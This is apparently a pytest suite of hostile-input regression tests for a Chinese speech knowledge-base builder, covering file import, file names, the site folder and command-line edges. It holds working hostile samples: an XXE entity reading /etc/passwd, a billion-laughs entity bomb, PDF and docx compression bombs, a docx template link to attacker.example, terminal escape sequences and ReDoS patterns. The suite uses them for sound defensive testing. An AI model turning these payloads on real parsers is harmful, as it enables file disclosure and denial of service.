"""Hostile round II (#31): the import door (`kb add`), file names, the site folder and the command
line's edges. Each test reproduces one attack and asserts what the curator now sees: one Chinese
line naming the file, nothing lost, the rest of the batch done."""

from __future__ import annotations

import errno
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from build_kb import config as config_module
from build_kb.config import load_glossary, load_overrides, load_print_config, load_taxonomy
from build_kb.curate import add_files, stored_name
from build_kb.edges import check_print_output, parse_dev_addr
from build_kb.errors import ConfigError, ConfigErrors, KbError, SiteWouldShrink, UnsafeSiteDir, describe_os_error
from build_kb.ingest.guard import ImportBounds, guarded_convert
from build_kb.pipeline import build_knowledge_base
from build_kb.publish import site as publish
from build_kb.store import write_atomic

from conftest import ROOT, build_site, make_corpus
from office_files import write_docx, write_pdf

SPEECH = "在全县组织工作会议上的讲话\n（2023年3月8日）\n同志们：\n一、加强党的政治建设。要把党的政治建设摆在首位。\n二、建设高素质干部队伍。坚持好干部标准。\n"
OTHER = "在全市人才工作会议上的讲话\n（2022年5月6日）\n同志们：\n一、聚焦人才引进。引进一批急需紧缺人才。\n二、优化人才环境。落实人才政策。\n"


def kb(*args, cwd=ROOT, **kwargs):
    return subprocess.run([sys.executable, "-m", "build_kb", *args], cwd=cwd, capture_output=True, text=True, timeout=300, **kwargs)


def fresh_corpus(tmp_path: Path, files=None) -> Path:
    return make_corpus(tmp_path / "corpus", {"speeches.yaml": "{}\n", **(files or {})})


# --- FAIL 1: kb print -o ------------------------------------------------------------------------


def test_print_refuses_to_write_into_the_corpus_before_building(tmp_path):
    speech = ROOT / "corpus" / sorted(p.name for p in (ROOT / "corpus").glob("*.txt"))[0]
    before = speech.read_bytes()
    run = kb("print", "--theme", "cadres", "-o", str(speech))
    assert run.returncode == 1 and speech.read_bytes() == before
    assert run.stderr.count("\n") == 1 and f"{speech}：位于语料文件夹" in run.stderr


def test_print_refuses_to_overwrite_what_is_not_its_pdf(tmp_path):
    places = {"语料文件夹": tmp_path / "corpus", "网站输出文件夹": tmp_path / "site"}
    report = tmp_path / "报告.pdf"
    report.write_bytes(b"%PDF-1.7 made by Word")
    with pytest.raises(KbError, match="已存在且不是 kb print 生成的 PDF，未覆盖；请换一个文件名，或确认可以覆盖后加 --force"):
        check_print_output(report, places, force=False)
    check_print_output(report, places, force=True)
    ours = tmp_path / "学习材料.pdf"
    ours.write_bytes(b"%PDF-1.7\n/Producer (Typst 0.13)\n")
    check_print_output(ours, places, force=False)  # a handout of ours may be replaced
    with pytest.raises(KbError, match="输出文件应以 .pdf 结尾"):
        check_print_output(tmp_path / "mkdocs.yml", places, force=False)
    with pytest.raises(KbError, match="位于网站输出文件夹"):
        check_print_output(tmp_path / "site" / "x.pdf", places, force=True)
    os.mkfifo(tmp_path / "pipe.pdf")
    with pytest.raises(KbError, match="不是普通文件"):
        check_print_output(tmp_path / "pipe.pdf", places, force=True)


# --- FAIL 2, 3, 4 and WEAK: the site folder -----------------------------------------------------


def test_a_copied_kb_json_does_not_make_a_folder_a_site(tmp_path):
    folder = tmp_path / "分析"
    folder.mkdir()
    (folder / "kb.json").write_text('{"version":4,"generator":"zuzhi-kb 1.0","speeches":[]}', encoding="utf-8")
    (folder / "报告.docx").write_text("我的文件", encoding="utf-8")
    with pytest.raises(UnsafeSiteDir):
        publish.check_site_dir(folder, {"the corpus": tmp_path / "corpus"})
    assert (folder / "报告.docx").read_text(encoding="utf-8") == "我的文件"


def test_shrink_guard_reads_the_count_from_kb_json_when_the_marker_is_gone(tmp_path):
    (tmp_path / "kb.json").write_text(json.dumps({"speeches": [{"id": f"s{i}"} for i in range(25)]}), encoding="utf-8")

    class OneSpeech:
        speeches, errors = [object()], []

    with pytest.raises(SiteWouldShrink, match="1.*25"):
        publish.check_shrink(OneSpeech(), tmp_path, allow_shrink=False)


def test_linked_site_dir_docs_links_defaced_pages_and_cache_in_the_corpus(tmp_path):
    """One project, several attacks on the site folder (one build each is what costs)."""
    project = tmp_path / "proj"
    project.mkdir()
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(ROOT / "docs", project / "docs")
    corpus = make_corpus(project / "corpus", {"a.txt": SPEECH, "b.txt": OTHER})
    secret = tmp_path / "hostname.txt"
    secret.write_text("secret-host\n", encoding="utf-8")
    (project / "docs" / "hostname.txt").symlink_to(secret)
    deploy = tmp_path / "www" / "kb"
    deploy.mkdir(parents=True)
    link = project / "site"
    link.symlink_to(deploy)
    cache = project / ".kb-cache"

    with pytest.raises(KbError, match="--cache-dir .*：与语料文件夹.*重叠"):
        build_site(project / "mkdocs.yml", link, cache_dir=corpus / "cache")
    assert not (corpus / "cache").exists()

    build_site(project / "mkdocs.yml", link, cache_dir=cache)
    assert link.is_symlink() and (deploy / "kb.json").is_file() and (deploy / publish.SITE_MARKER).is_file()
    assert not (deploy / "hostname.txt").exists()  # the link in docs/ is not followed
    assert sorted(p.name for p in tmp_path.joinpath("www").iterdir()) == ["kb"]  # no staging nor lock left beside it
    assert not list(project.glob(".site.building-*"))

    page = next(deploy.rglob("index.html"))
    page.write_text("<h1>defaced</h1>", encoding="utf-8")
    (deploy / "404.html").unlink()
    assert build_site(project / "mkdocs.yml", link, cache_dir=cache) is not None  # not "up to date"
    assert "defaced" not in page.read_text(encoding="utf-8") and (deploy / "404.html").is_file()
    assert build_site(project / "mkdocs.yml", link, cache_dir=cache) is None  # and now it is


# --- FAIL 5: temporary files --------------------------------------------------------------------


def test_a_planted_link_at_a_temporary_name_is_never_followed(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me", encoding="utf-8")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    target = corpus / "新讲话.txt"
    # The names an attacker can predict: the old scheme's, for this process.
    (corpus / f".{target.name}.{os.getpid()}.tmp").symlink_to(outside)
    write_atomic(target, "讲话内容".encode("utf-8"))
    assert outside.read_text(encoding="utf-8") == "keep me"
    assert not target.is_symlink() and target.read_text(encoding="utf-8") == "讲话内容"
    assert [p.name for p in corpus.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()] == []


def test_disk_full_names_the_file(tmp_path, monkeypatch):
    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError) as caught:
        write_atomic(tmp_path / "speeches.yaml", b"x")
    assert describe_os_error(caught.value).startswith(f"{tmp_path / 'speeches.yaml'}：")  # the path, then what to do
    assert list(tmp_path.iterdir()) == []


# --- FAIL 6, 7 and WEAK: file names -------------------------------------------------------------


def test_gbk_file_names_are_read_as_gb18030_by_build_check_and_add(tmp_path):
    corpus = fresh_corpus(tmp_path)
    gbk_name = "讲话甲.txt".encode("gbk")
    with open(os.fsencode(corpus) + b"/" + gbk_name, "wb") as f:
        f.write(SPEECH.encode("utf-8"))
    kb_ = build_knowledge_base(corpus)
    assert [s.source.rel_path for s in kb_.speeches] == ["讲话甲.txt"]
    assert [str(p) for p in kb_.problems if "GB18030" in str(p)] == [
        "讲话甲.txt：文件名不是 UTF-8 编码（常见于中文 Windows 打包的 zip），已按 GB18030 读作这个名字；请把文件改成这个名字，免得别的程序读错"
    ]
    assert kb("check", "--corpus", str(corpus)).returncode == 0

    inbox = tmp_path / "收件"
    inbox.mkdir()
    with open(os.fsencode(inbox) + b"/" + "人才会议.txt".encode("gbk"), "wb") as f:
        f.write(OTHER.encode("utf-8"))
    results = add_files([inbox], corpus)
    assert [(r.status, r.stored_as) for r in results] == [("imported", "人才会议.txt")]
    assert load_overrides(corpus)["人才会议.txt"].values["original"] == "人才会议.txt"


@pytest.mark.parametrize("odd", ["\x1b[31m", "\n", "\x85", "\u2028", "\u202e", "\u200b", "\x7f"])
def test_control_and_separator_characters_in_names_never_reach_yaml_raw(tmp_path, odd):
    corpus = fresh_corpus(tmp_path)
    inbox = tmp_path / "in"
    inbox.mkdir()
    (inbox / f"讲话{odd}红.txt").write_text(SPEECH, encoding="utf-8")
    [result] = add_files([inbox], corpus)
    stored = "讲话_[31m红.txt" if odd.startswith("\x1b") else "讲话_红.txt"
    assert (result.status, result.stored_as) == ("imported", stored)
    overrides = load_overrides(corpus)  # still readable
    assert overrides[stored].values["original"] == f"讲话{odd}红.txt"
    assert odd == "\n" or odd not in (corpus / "speeches.yaml").read_text(encoding="utf-8")
    assert add_files([inbox], corpus)[0].status == "already"  # and every later add still works


def test_any_error_while_appending_stubs_restores_speeches_yaml(tmp_path, monkeypatch):
    corpus = fresh_corpus(tmp_path, {"speeches.yaml": "# mine\n"})
    inbox = tmp_path / "in"
    inbox.mkdir()
    (inbox / "a.txt").write_text(SPEECH, encoding="utf-8")

    def broken(*args, **kwargs):
        raise ValueError("not a KbError")

    monkeypatch.setattr("build_kb.curate.load_overrides", lambda *a, **k: {} if not (corpus / "speeches.yaml").read_text(encoding="utf-8").count("a.txt") else broken())
    with pytest.raises(ValueError):
        add_files([inbox], corpus)
    assert (corpus / "speeches.yaml").read_text(encoding="utf-8") == "# mine\n"
    assert not (corpus / "a.txt").exists()  # all or nothing


def test_kb_add_prints_no_escape_sequences(tmp_path):
    corpus = fresh_corpus(tmp_path)
    source = tmp_path / "讲话\x1b]0;owned\x07.txt"
    source.write_text(SPEECH, encoding="utf-8")
    run = kb("add", str(source), "--corpus", str(corpus))
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in run.stdout + run.stderr and "\x07" not in run.stdout + run.stderr
    assert "讲话\\x1b]0;owned\\x07.txt" in run.stdout


# --- WEAK: interrupted batches ------------------------------------------------------------------


def test_ctrl_c_in_a_batch_takes_back_what_it_stored(tmp_path, monkeypatch):
    corpus = fresh_corpus(tmp_path)
    inbox = tmp_path / "in"
    inbox.mkdir()
    for i, text in enumerate((SPEECH, OTHER, SPEECH.replace("全县", "全区").replace("首位", "第一位"))):
        (inbox / f"{i}.txt").write_text(text, encoding="utf-8")
    from build_kb import curate

    real, calls = curate._add_one, []

    def interrupted(*args, **kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(curate, "_add_one", interrupted)
    with pytest.raises(KeyboardInterrupt):
        add_files([inbox], corpus)
    assert sorted(p.name for p in corpus.glob("*.txt")) == []
    assert (corpus / "speeches.yaml").read_text(encoding="utf-8") == "{}\n"


def test_a_speech_stored_without_its_stub_gets_it_on_the_next_run(tmp_path):
    corpus = fresh_corpus(tmp_path, {"讲话.txt": SPEECH})  # as a process killed before the stubs leaves it
    source = tmp_path / "讲话.txt"
    source.write_text(SPEECH, encoding="utf-8")
    [result] = add_files([source], corpus)
    assert (result.status, result.stored_as) == ("imported", "讲话.txt")
    assert result.notes[-1] == "上次导入在写入 speeches.yaml 之前中断，这次补写了它的条目"
    assert load_overrides(corpus)["讲话.txt"].values["title"] == "在全县组织工作会议上的讲话"
    assert add_files([source], corpus)[0].status == "already"


# --- WEAK: what a folder holds ------------------------------------------------------------------


def test_a_folder_import_refuses_links_outside_and_never_reads_a_fifo(tmp_path):
    corpus = fresh_corpus(tmp_path)
    inbox = tmp_path / "in"
    inbox.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text(OTHER, encoding="utf-8")
    (inbox / "链接.txt").symlink_to(secret)
    os.mkfifo(inbox / "讲话.txt")
    (inbox / "好.txt").write_text(SPEECH, encoding="utf-8")
    start = time.monotonic()
    results = {Path(r.source).name: (r.status, r.message) for r in add_files([inbox], corpus)}
    assert time.monotonic() - start < 30
    assert results["好.txt"][0] == "imported"
    assert results["链接.txt"] == ("refused", f"是指向文件夹外的链接（→ {secret}），未导入；如确需导入，请直接写出该文件的路径")
    assert results["讲话.txt"] == ("failed", "不是普通文件（管道、设备或文件夹），未读取；请只导入 Word、PDF、网页或文本文件")
    assert sorted(p.name for p in corpus.glob("*.txt")) == ["好.txt"]


# --- FAIL 8: odd YAML ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "file, text, expected",
    [
        ("speeches.yaml", 'a.txt:\n  title: "换\x0b行"\n', "corpus/speeches.yaml:2：含有不可见的控制字符 U+000B"),
        ("speeches.yaml", "a.txt:\n  occasion: 分\x0c页\n", "corpus/speeches.yaml:2：含有不可见的控制字符 U+000C"),
        ("themes.yaml", "themes:\n  - id: a\n    name: 党\x00建\n", "corpus/themes.yaml:3：含有不可见的控制字符 U+0000"),
        ("speeches.yaml", "a.txt:\n  year: " + "9" * 5000 + "\n", "corpus/speeches.yaml:2：数字有 5000 位，太长了"),
    ],
)
def test_odd_yaml_is_one_line_with_file_and_line(tmp_path, file, text, expected):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / file).write_text(text, encoding="utf-8")
    loader = load_overrides if file == "speeches.yaml" else load_taxonomy
    with pytest.raises(ConfigError) as caught:
        loader(corpus)
    assert str(caught.value).startswith(expected) and "\n" not in str(caught.value)


# --- FAIL 9, 10: damaged, hostile and expanding Office and PDF files ------------------------------


def _docx_with(path: Path, replace: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> Path:
    """A copy of the fixture .docx with some parts replaced."""
    good = write_docx(path.with_name("_good.docx"))
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w", compress) as target:
        for item in source.infolist():
            target.writestr(item.filename, replace.get(item.filename, source.read(item.filename)))
        for name, data in replace.items():
            if name not in source.namelist():
                target.writestr(name, data)
    good.unlink()
    return path


XXE = b'<?xml version="1.0"?><!DOCTYPE w:footnotes [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:footnote></w:footnotes>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'


def _pdf_bomb(path: Path) -> Path:
    """A one-page PDF whose content stream inflates to far more than pypdf allows."""
    import zlib

    packer, megabyte = zlib.compressobj(9), b" " * (1 << 20)
    stream = b"".join(packer.compress(megabyte) for _ in range(100)) + packer.flush()  # 100 MB in 100 KB
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream",
    ]
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets))
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    path.write_bytes(out.getvalue())
    return path


def test_damaged_and_hostile_files_fail_alone_and_the_batch_goes_on(tmp_path):
    corpus = fresh_corpus(tmp_path)
    inbox = tmp_path / "in"
    inbox.mkdir()
    good = write_docx(inbox / "好.docx")
    with zipfile.ZipFile(good) as z:
        document = z.read("word/document.xml")
    _docx_with(inbox / "半截.docx", {"word/document.xml": document[: len(document) // 2]})
    _docx_with(inbox / "外部实体.docx", {"word/footnotes.xml": XXE})
    _docx_with(inbox / "笑.docx", {"word/footnotes.xml": LAUGHS})
    (inbox / "截断.docx").write_bytes(good.read_bytes()[:2000])
    _pdf_bomb(inbox / "炸弹.pdf")
    results = {Path(r.source).name: r for r in add_files([inbox], corpus)}
    assert results["好.docx"].status == "imported"
    for name in ("半截.docx", "外部实体.docx", "笑.docx", "截断.docx", "炸弹.pdf"):
        assert results[name].status == "failed", name
        assert results[name].message and name not in results[name].message and "\n" not in results[name].message
    assert "声明了 XML 实体" in results["外部实体.docx"].message and "声明了 XML 实体" in results["笑.docx"].message
    assert "已损坏或格式异常" in results["半截.docx"].message
    assert results["截断.docx"].message == (
        "不是完整的 Word .docx 文件（内容不是 .docx 的压缩包格式，可能只下载了一部分或改过扩展名）；请用 Word 或 WPS 打开后另存为 .docx 再导入"
    )
    assert results["炸弹.pdf"].message.startswith("内部有一段数据解压后超过 19 MB（原来只有 100 KB），疑似“压缩炸弹”；未导入")
    assert "root:" not in (corpus / "好.txt").read_text(encoding="utf-8")
    assert sorted(load_overrides(corpus)) == ["好.txt"]


def test_words_lock_file_is_named_for_what_it_is(tmp_path):
    """Word leaves "~$<name>.docx" beside an open document (its owner's name in a few bytes); a curator who
    picks it by mistake is told to take the document itself — in Chinese, with no library's English."""
    lock = tmp_path / "~$会议讲话.docx"
    lock.write_bytes(b"\x06" + "张三".encode("utf-16-le") + b"\x00" * 40)
    with pytest.raises(KbError) as error:
        guarded_convert(lock)
    assert str(error.value) == "~$会议讲话.docx：是 Word 打开文档时留下的临时锁定文件（文件名以 ~$ 开头），不是文档本身；请加入去掉 ~$ 的那个文件"


def test_a_zip_bomb_is_refused_before_it_expands(tmp_path):
    bomb = _docx_with(tmp_path / "炸弹.docx", {"word/document.xml": b"<w:document>" + b" " * (3 * 1024 * 1024) + b"</w:document>"})
    assert bomb.stat().st_size < 100_000
    with pytest.raises(KbError, match=r"炸弹.docx：内部的 word/document.xml 解压后有 3 MB（压缩比 \d+:1），超出导入上限，疑似“压缩炸弹”"):
        guarded_convert(bomb)
    with pytest.raises(KbError, match="解压后有"):
        guarded_convert(write_docx(tmp_path / "普通.docx"), ImportBounds(entry_bytes=1000))


def test_a_flat_picture_that_packs_hundreds_of_times_is_no_bomb():
    """A thesis's 1050×750 picture of one colour packs 2.3 MB into 10 KB (229:1): a PDF stream under
    16 MB is read whatever its ratio; the 100 MB bomb above is still refused."""
    import zlib

    from build_kb.ingest.guard import check_pdf_streams

    flat = zlib.compress(b"\xff\xff\xff" * (1050 * 750), 9)
    assert len(flat) * 200 < 1050 * 750 * 3
    pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /XObject /Subtype /Image /Width 1050 /Height 750 /Filter /FlateDecode >>\nstream\n" + flat + b"\nendstream\nendobj\n"
    check_pdf_streams(pdf, "论文.pdf")
    with pytest.raises(KbError, match="疑似“压缩炸弹”"):
        check_pdf_streams(pdf, "论文.pdf", ImportBounds(pdf_stream_floor=1024 * 1024))


def test_the_converted_text_is_bounded_in_characters(tmp_path):
    source = tmp_path / "长.txt"
    source.write_text(SPEECH * 20, encoding="utf-8")
    with pytest.raises(KbError, match="长.txt：转换后有 .* 个字符，超过上限 1,000；请拆分后再导入"):
        guarded_convert(source, ImportBounds(characters=1000))
    with pytest.raises(KbError, match="超过导入上限"):
        guarded_convert(source, ImportBounds(file_bytes=100))


# --- FAIL 11: user regular expressions ----------------------------------------------------------


def test_a_runaway_boilerplate_pattern_is_stopped_and_named(tmp_path, monkeypatch):
    monkeypatch.setattr(config_module, "RULE_BUDGET_SECONDS", 0.2)
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH + "文字，" * 30 + "\n", "b.txt": OTHER}, config=False)
    (corpus / "boilerplate.yaml").write_text("rules:\n  - name: 下载\n    pattern: '^(?=(.*?，){30}下载)'\n", encoding="utf-8")
    start = time.monotonic()
    kb_ = build_knowledge_base(corpus)
    assert time.monotonic() - start < 20
    assert [s.source.rel_path for s in kb_.speeches] == ["b.txt"]
    [slow] = [str(p) for p in kb_.problems if "正则" in str(p)]
    assert slow.startswith("corpus/boilerplate.yaml:3：") and "规则 下载" in slow
    assert slow.endswith("的正则表达式在一行 90 个字符的文字上用完了 0.2 秒的时限（回溯过多）；请改写它（避免 .*.* 这类相邻的可重叠重复），或删去这条规则（在 a.txt 上；这篇讲话未能构建）")


def test_the_issue_s_patterns_run_in_linear_time(tmp_path):
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH + "x" * 78 + "\n" + "党" * 40 + "x\n"}, config=False)
    (corpus / "boilerplate.yaml").write_text(
        "rules:\n  - name: 全文\n    pattern: '.*.*.*.*.*.*.*.*.*.*下载全文$'\n  - name: 党\n    pattern: '(?:党?){30}党{30}$'\n", encoding="utf-8"
    )
    start = time.monotonic()
    assert len(build_knowledge_base(corpus).speeches) == 1
    assert time.monotonic() - start < 10


# --- FAIL 12: kb serve --dev-addr ---------------------------------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [("8001", ("127.0.0.1", 8001, None)), (":8001", ("127.0.0.1", 8001, None)), ("localhost", ("127.0.0.1", 8000, None)),
     ("localhost:8002", ("127.0.0.1", 8002, None)), ("127.0.0.2:80", ("127.0.0.2", 80, None)), ("[::1]:8001", ("::1", 8001, None))],
)
def test_a_port_alone_means_loopback(text, expected):
    assert parse_dev_addr(text, allow_network=False) == expected


def test_network_addresses_need_a_flag_and_warn():
    with pytest.raises(KbError, match="请再加 --allow-network"):
        parse_dev_addr("0.0.0.0:8001", allow_network=False)
    assert parse_dev_addr("0.0.0.0:8001", allow_network=True)[2].startswith("注意：预览对网络开放")


@pytest.mark.parametrize("text", ["127.0.0.1:abc", ":99999", "example.org:80", ":0"])
def test_bad_dev_addr_is_one_chinese_line_before_any_build(text):
    start = time.monotonic()
    run = kb("serve", "--dev-addr", text)
    assert run.returncode == 1 and run.stderr.count("\n") == 1 and run.stderr.startswith(f"错误：--dev-addr {text}：")
    assert "Traceback" not in run.stderr and time.monotonic() - start < 20


# --- WEAK: configuration contradictions ----------------------------------------------------------


def test_keep_and_drop_of_the_same_line_and_headings_beyond_the_file(tmp_path):
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH})
    (corpus / "speeches.yaml").write_text("a.txt:\n  keep_lines: [3, 4]\n  drop_lines: [4]\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"corpus/speeches.yaml:3：'a.txt' 的 keep_lines 和 drop_lines 都写了第 4 行"):
        load_overrides(corpus)
    (corpus / "speeches.yaml").write_text("a.txt:\n  drop_lines: [4]\n  heading_lines: {2: 1, 4: 1}\n", encoding="utf-8")
    with pytest.raises(ConfigError) as error:
        load_overrides(corpus)
    assert str(error.value).endswith("corpus/speeches.yaml:3：'a.txt' 的 drop_lines 删去第 4 行，heading_lines 又要它作小标题，互相矛盾；请从其中一个删去")
    (corpus / "speeches.yaml").write_text("a.txt:\n  paragraph_lines: [5]\n  drop_lines: [5]\n", encoding="utf-8")
    with pytest.raises(ConfigError) as error:
        load_overrides(corpus)
    assert str(error.value).endswith("corpus/speeches.yaml:2：'a.txt' 的 drop_lines 删去第 5 行，paragraph_lines 又要它另起一段，互相矛盾；请从其中一个删去")
    (corpus / "speeches.yaml").write_text("a.txt:\n  heading_lines: {99999: 1}\n", encoding="utf-8")
    problems = [str(p) for p in build_knowledge_base(corpus).problems]
    assert "a.txt：speeches.yaml 第 2 行的 heading_lines 写了第 99999 行，但 a.txt 只有 5 行；请改正行号" in problems


def test_one_character_glossary_terms_are_refused(tmp_path):
    (tmp_path / "glossary.yaml").write_text("terms:\n  - term: 党\n  - term: 两个维护\n    aliases: [维]\n", encoding="utf-8")
    with pytest.raises(ConfigErrors) as caught:
        load_glossary(tmp_path)
    assert [str(e) for e in caught.value.errors] == [
        f"{tmp_path.name}/glossary.yaml:2：提法 '党' 只有一个字，会在几乎每段话里“出现”；请写完整的提法（至少两个字），例如“两个维护”",
        f"{tmp_path.name}/glossary.yaml:4：'两个维护' 的别名 '维' 只有一个字，会在几乎每段话里“出现”；请写完整的说法（至少两个字）",
    ]


# --- WEAK: SIGTERM ------------------------------------------------------------------------------


def test_sigterm_unwinds_like_ctrl_c(tmp_path):
    script = (
        "import sys, time\n"
        "from pathlib import Path\n"
        "from build_kb.edges import terminate_cleanly\n"
        "from build_kb.publish.site import staging_folder\n"
        "terminate_cleanly()\n"
        f"with staging_folder(Path({str(tmp_path / 'site')!r})) as staging:\n"
        "    print(staging, flush=True)\n"
        "    time.sleep(60)\n"
    )
    child = subprocess.Popen([sys.executable, "-c", script], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    staging = Path(child.stdout.readline().strip())
    assert staging.is_dir()
    child.send_signal(signal.SIGTERM)
    child.wait(timeout=30)
    assert not staging.exists() and list(tmp_path.iterdir()) == []


# --- new attacks --------------------------------------------------------------------------------


def test_external_relationships_in_a_docx_are_never_fetched(tmp_path, monkeypatch):
    import socket

    def no_network(*args, **kwargs):
        raise AssertionError("kb add opened a connection")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    good = write_docx(tmp_path / "_g.docx")
    with zipfile.ZipFile(good) as z:
        rels = z.read("word/_rels/document.xml.rels").decode("utf-8")
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
        '<Relationship Id="rIdI" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        'Target="\\\\attacker\\share\\x.png" TargetMode="External"/></Relationships>',
    )
    remote = _docx_with(tmp_path / "远程模板.docx", {"word/_rels/document.xml.rels": rels.encode("utf-8")})
    converted = guarded_convert(remote)
    assert "attacker" not in converted.text and "在全市组织工作会议上的讲话" in converted.text


def test_font_paths_outside_the_corpus_are_refused(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "fonts").mkdir()
    (corpus / "up").symlink_to("/")
    (corpus / "print.yaml").write_text("font_paths: [fonts, /, ../.., up]\n", encoding="utf-8")
    with pytest.raises(ConfigErrors) as caught:
        load_print_config(corpus)
    assert [str(e).split("；")[0] for e in caught.value.errors] == ["corpus/print.yaml:1：font_paths 中的 '/' 不在语料文件夹内", "corpus/print.yaml:1：font_paths 中的 '../..' 不在语料文件夹内", "corpus/print.yaml:1：font_paths 中的 'up' 不在语料文件夹内"]


def test_bidi_controls_in_titles_are_refused_with_their_line(tmp_path):
    (tmp_path / "speeches.yaml").write_text('a.txt:\n  title: "讲话\\u202e话讲"\n  speaker: "张\\u200b三"\n', encoding="utf-8")
    with pytest.raises(ConfigErrors) as caught:
        load_overrides(tmp_path)
    assert [str(e) for e in caught.value.errors] == [
        f"{tmp_path.name}/speeches.yaml:2：a.txt 的 title 含有看不见的控制字符 U+202E（会改变文字的显示方向或藏起文字）；请删除它",
        f"{tmp_path.name}/speeches.yaml:3：a.txt 的 speaker 含有看不见的控制字符 U+200B（会改变文字的显示方向或藏起文字）；请删除它",
    ]


def test_names_too_long_for_the_file_system_and_windows_device_names(tmp_path):
    assert len(stored_name(Path("长" * 150 + ".docx")).encode("utf-8")) <= 204
    assert stored_name(Path("CON.docx")) == "CON_.txt" and stored_name(Path("com1.讲话.pdf")) == "com1.讲话_.txt"
    corpus = fresh_corpus(tmp_path)
    source = tmp_path / ("组织工作会议讲话" * 10 + ".txt")  # 240 bytes: fine as a source, 244 + .txt …
    source.write_text(SPEECH, encoding="utf-8")
    [result] = add_files([source], corpus)
    assert result.status == "imported" and (corpus / result.stored_as).is_file()


def test_two_kb_adds_at_once_keep_both_stubs(tmp_path):
    corpus = fresh_corpus(tmp_path)
    sources = []
    for i, text in enumerate((SPEECH, OTHER)):
        sources.append(tmp_path / f"{i}.txt")
        sources[-1].write_text(text, encoding="utf-8")
    runs = [subprocess.Popen([sys.executable, "-m", "build_kb", "add", str(s), "--corpus", str(corpus)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for s in sources]
    assert [r.wait(timeout=120) for r in runs] == [0, 0]
    assert sorted(load_overrides(corpus)) == ["0.txt", "1.txt"]


def test_case_and_width_variants_of_a_name_get_their_own_pages(tmp_path):
    corpus = make_corpus(tmp_path / "corpus", {"Speech.txt": SPEECH, "speech.txt": OTHER, "ｓｐｅｅｃｈ.txt": SPEECH.replace("全县", "全区").replace("首位", "第一位")})
    kb_ = build_knowledge_base(corpus)
    ids = [s.id for s in kb_.speeches]
    assert len(ids) == 3 and len({i.lower() for i in ids}) == 3 and all(i.isascii() for i in ids)


def test_dates_at_the_ends_of_the_calendar_build(tmp_path):
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH, "b.txt": OTHER})
    (corpus / "speeches.yaml").write_text("a.txt:\n  date: 0001-01-01\nb.txt:\n  date: 2100-12-31\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="speeches.yaml:2：a.txt 的 date：0001-01-01 不像讲话的日期（应在 1900 至 2100 年之间）"):
        load_overrides(corpus)
    (corpus / "speeches.yaml").write_text("a.txt:\n  date: 1900-01-01\nb.txt:\n  date: 2100-12-31\n", encoding="utf-8")
    assert len(build_site(ROOT / "mkdocs.yml", tmp_path / "site", corpus_dir=corpus).speeches) == 2


def test_a_build_never_writes_into_the_corpus(tmp_path):
    """A corpus on a read-only mount, or shared with others: the build only reads it."""
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH, "b.txt": OTHER})
    before = sorted((p.relative_to(corpus).as_posix(), p.stat().st_mtime_ns) for p in corpus.rglob("*"))
    build_site(ROOT / "mkdocs.yml", tmp_path / "site", corpus_dir=corpus, cache_dir=tmp_path / "cache")
    assert sorted((p.relative_to(corpus).as_posix(), p.stat().st_mtime_ns) for p in corpus.rglob("*")) == before


def test_a_hard_link_to_a_corpus_file_is_not_imported_twice(tmp_path):
    corpus = fresh_corpus(tmp_path, {"a.txt": SPEECH})
    inbox = tmp_path / "in"
    inbox.mkdir()
    os.link(corpus / "a.txt", inbox / "b.txt")
